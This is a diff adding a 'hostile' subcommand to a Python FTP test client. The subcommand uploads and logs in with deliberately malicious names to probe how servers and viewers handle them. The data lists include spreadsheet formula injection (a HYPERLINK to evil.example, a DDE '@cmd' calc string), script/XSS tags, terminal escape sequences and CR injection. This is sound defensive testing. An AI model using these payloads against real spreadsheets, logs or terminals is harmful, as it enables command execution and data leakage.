@@ -14,6 +14,12 @@ Subcommands:
       a person at a telnet prompt: lower-case commands typed one
       character per TCP segment, PASV, data connection opened before
       "retr", QUIT.
+  hostile HOST USER PASS
+      names chosen to break spreadsheets, tables and terminals: failed
+      logins with hostile user names and passwords, then USER/PASS, and
+      STOR/RETR/MKD/CWD/DELE of files whose names start with formula
+      characters or hold quotes, commas, pipes, backticks, <script>,
+      ANSI escapes, a CR, a tab and bytes that are not UTF-8.
 """
 import ftplib
 import re
@@ -144,6 +150,128 @@ def telnet(host, filename):
     t.sock.close()
 
 
+class RawControl:
+    """A control connection that sends exact bytes (ftplib refuses a CR
+    inside a line and encodes everything as UTF-8)."""
+
+    def __init__(self, host, port=21):
+        self.host = host
+        self.sock = socket.create_connection((host, port), timeout=10)
+        self.buf = b""
+
+    def reply(self):
+        """Read one (possibly multi-line) reply; return (code, raw bytes)."""
+        lines = []
+        while True:
+            while b"\r\n" not in self.buf:
+                data = self.sock.recv(4096)
+                if not data:
+                    raise SystemExit("server closed the control connection")
+                self.buf += data
+            line, self.buf = self.buf.split(b"\r\n", 1)
+            lines.append(line)
+            first = lines[0]
+            if re.match(rb"^\d{3} ", line) and line[:3] == first[:3]:
+                say("<<< %r" % b"\r\n".join(lines))
+                return int(first[:3]), b"\r\n".join(lines)
+            if len(lines) == 1 and not re.match(rb"^\d{3}-", line):
+                raise SystemExit("not a reply: %r" % line)
+
+    def send(self, line):
+        say(">>> %r" % line)
+        self.sock.sendall(line + b"\r\n")
+
+    def cmd(self, line, *codes):
+        self.send(line)
+        code, text = self.reply()
+        if codes and code not in codes:
+            raise SystemExit("%r: unexpected reply %r" % (line, text))
+        return code, text
+
+    def pasv(self):
+        _, text = self.cmd(b"PASV", 227)
+        m = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", text)
+        nums = [int(x) for x in m.groups()]
+        return socket.create_connection(
+            (".".join(str(n) for n in nums[:4]), nums[4] * 256 + nums[5]),
+            timeout=10)
+
+    def store(self, name, content):
+        data = self.pasv()
+        self.cmd(b"STOR " + name, 125, 150)
+        data.sendall(content)
+        data.close()
+        self.reply()                    # 226
+
+    def fetch(self, line):
+        data = self.pasv()
+        self.cmd(line, 125, 150)
+        got = b""
+        while True:
+            chunk = data.recv(4096)
+            if not chunk:
+                break
+            got += chunk
+        data.close()
+        self.reply()                    # 226
+        return got
+
+
+# (user, password) pairs that the server refuses, one hostile kind each
+HOSTILE_LOGINS = [
+    (b'=HYPERLINK("http://evil.example/?q="&A1,"click me")',
+     b'+SUM(1,2),"quoted, comma"'),
+    (b"@cmd|' /C calc'!A0", b"-2+3|pipe|`backtick`"),
+    # not UTF-8: Latin-1 bytes, a broken sequence and 0x9b (a one-byte CSI
+    # in Latin-1 terminals); no 0xff, which Telnet reads as IAC
+    (b"\x1b[31mred-user\x1b[0m", b"\xe9t\xe9 \xc3( \x9b31m not utf-8"),
+    (b'<script>alert("x")</script>', b"pass\rword with a CR inside"),
+]
+
+# file names to upload, one hostile kind each (a LF cannot be sent: it
+# ends the command line; a CR can)
+HOSTILE_FILES = [
+    b'=HYPERLINK("evil.example?q=1","x").txt',   # no /: it would be a directory
+    b'+1+1,"quoted".txt',
+    b"-rf |pipe| `tick`.txt",
+    b"@SUM(A1)<script>alert(1)<img src=x onerror=alert(2)>.txt",
+    b"\x1b[31mred\x1b[0m.txt",
+    b"bad-\xe9\x80\xc3(-utf8.txt",
+    b"\tTAB=1+1.txt",
+    b"\r=CR-prefix.txt",
+    b"cr\rinside.txt",
+    b"caf\xc3\xa9 \xe2\x80\x94 ok.txt",
+]
+
+
+def hostile(host, user, password):
+    c = RawControl(host)
+    c.reply()                           # 220
+    for bad_user, bad_pass in HOSTILE_LOGINS:
+        c.cmd(b"USER " + bad_user, 331)
+        c.cmd(b"PASS " + bad_pass, 530)
+    c.cmd(b"USER " + user.encode(), 331)
+    c.cmd(b"PASS " + password.encode(), 230)
+    c.cmd(b"PWD", 257)
+    c.cmd(b"TYPE I", 200)
+    for i, name in enumerate(HOSTILE_FILES, 1):
+        c.store(name, b"hostile-names sample file %02d\n" % i)
+    listing = c.fetch(b"LIST")
+    say(repr(listing))
+    for name in (HOSTILE_FILES[0], HOSTILE_FILES[4]):
+        got = c.fetch(b"RETR " + name)
+        if not got.startswith(b"hostile-names sample file"):
+            raise SystemExit("RETR %r gave %r" % (name, got))
+    c.cmd(b"MKD |a|b| `x`", 257)
+    c.cmd(b"CWD |a|b| `x`", 250)
+    c.cmd(b"PWD", 257)
+    c.cmd(b"CDUP", 200, 250)
+    c.cmd(b"DELE \x1b]0;pwned\x07.txt", 550)
+    c.cmd(b"PORT 1,2,3,=4,5,6", 501)
+    c.cmd(b"QUIT", 221)
+    c.sock.close()
+
+
 def main(argv):
     if not argv:
         raise SystemExit(__doc__)
@@ -153,6 +281,7 @@ def main(argv):
         "stor-active": stor_active,
         "ipv6": ipv6,
         "telnet": telnet,
+        "hostile": hostile,
     }
     if cmd not in funcs:
         raise SystemExit(__doc__)
